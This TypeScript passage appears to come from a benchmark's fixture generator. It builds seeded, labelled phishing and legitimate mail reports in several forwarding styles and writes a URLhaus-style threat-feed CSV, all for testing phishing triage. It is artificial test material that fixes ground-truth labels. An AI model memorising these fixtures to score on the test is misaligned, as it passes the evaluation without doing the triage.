  options: { seed?: number; phish?: number; ham?: number; feedListed?: number; inlineListed?: number } = {},
): Promise<LabelledReport[]> {
  const seed = options.seed ?? 28;
  const phishCount = options.phish ?? 395;
  const hamCount = options.ham ?? 37;
  const feedListed = options.feedListed ?? 78;
  const inlineListed = options.inlineListed ?? 10;
  const next = random(seed);
  const pick = <T>(list: T[]): T => list[Math.floor(next() * list.length)]!;
  const weighted = (list: [string, number][]) => {
    const total = list.reduce((sum, [, weight]) => sum + weight, 0);
    let roll = next() * total;
    for (const [name, weight] of list) {
      roll -= weight;
      if (roll < 0) return name;
    }
    return list[0]![0];
  };
  const styles: [string, number][] = [
    ["attachment", 70],
    ["inline-gmail", 8],
    ["inline-outlook", 6],
    ["inline-apple", 3],
    ["inline-naver", 5],
    ["original", 8],
  ];
  const items: { mail: Mail; urls: string[]; label: Label; kind: string; style: ReportStyle; reporter: string }[] = [];

  // Phishing: campaigns of one to four reports of the same message.
  let made = 0;
  while (made < phishCount) {
    const ko = next() < 0.3;
    const kind = weighted(PHISH_KINDS);
    const { mail, urls } = await phish(kind, { pick, next, n: made, ko });
    const copies = Math.min(phishCount - made, next() < 0.25 ? 2 + Math.floor(next() * 3) : 1);
    for (let copy = 0; copy < copies; copy++)
      items.push({ mail, urls, label: "phish", kind: `phish/${kind}`, style: weighted(styles) as ReportStyle, reporter: pick(STAFF) });
    made += copies;
  }
  // Legitimate mail staff report anyway.
  const hamKinds = [
    "newsletter",
    "newsletter",
    "newsletter",
    "google",
    "microsoft",
    "docusign",
    "zoom",
    "github",
    "paypal",
    "naver",
    "coupang",
    "internal",
    "internal",
  ];
  for (let index = 0; index < hamCount; index++) {
    const kind = hamKinds[index % hamKinds.length]!;
    const ko = next() < 0.3;
    const mail =
      kind === "newsletter" ? newsletter(pick, index, ko) : kind === "internal" ? internal(index, ko) : notification(kind, index);
    items.push({ mail, urls: [], label: "ham", kind: `ham/${kind}`, style: weighted(styles) as ReportStyle, reporter: pick(STAFF) });
  }
  // Arrival order: shuffled over the day.
  for (let index = items.length - 1; index > 0; index--) {
    const other = Math.floor(next() * (index + 1));
    [items[index], items[other]] = [items[other]!, items[index]!];
  }
  // Feed listings: one URL of `feedListed` phish with a link, `inlineListed` of them forwarded inline.
  // Only a URL a reader sees (a link, or a QR code's), not one inside an attachment's code.
  const withLinks = items.filter(
    (item) =>
      item.label === "phish" &&
      item.urls.length > 0 &&
      item.kind !== "phish/html-form" &&
      !(item.kind === "phish/qr-code" && item.style.startsWith("inline")),
  );
  const listed = new Set<(typeof items)[number]>();
  for (const item of withLinks) {
    if (listed.size >= inlineListed) break;
    item.style = pick(["inline-gmail", "inline-outlook", "inline-naver"]) as ReportStyle;
    listed.add(item);
  }
  for (const item of withLinks) {
    if (listed.size >= feedListed) break;
    if (!item.style.startsWith("inline")) listed.add(item);
  }

  const start = Date.UTC(2026, 11, 7, 0, 5);
  return items.map((item, index) => {
    const id = `r${index}.${seed}@${ORG_DOMAIN}`;
    const date = new Date(start + index * 3 * 60_000).toUTCString().replace("GMT", "+0000");
    const inner = render(item.mail, `m${index}.${seed}@${domainOf(item.mail.fromAddress)}`, `${item.reporter}@${ORG_DOMAIN}`, date);
    const raw = reportOf(item.style, item.mail, inner, item.reporter, id, date, item.mail.language);
    const original = item.style === "original";
    return {
      id: original ? `m${index}.${seed}@${domainOf(item.mail.fromAddress)}` : id,
      raw,
      label: item.label,
      kind: item.kind,
      style: item.style,
      language: item.mail.language,
      ...(listed.has(item) ? { feedUrl: item.urls[0]! } : {}),
    };
  });
}

/** A URLhaus CSV (its published columns) listing the given URLs. */
export function urlhausCsv(urls: string[]): string {
  const header = "# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter";
  const rows = urls.map(
    (url, index) =>
      `"${9000 + index}","2026-12-06 10:00:00","${url}","online","2026-12-07 00:00:00",` +
      `"malware_download","phishing","https://urlhaus.abuse.ch/url/${9000 + index}/","bench"`,
  );
  return `${[header, ...rows].join("\n")}\n`;
}
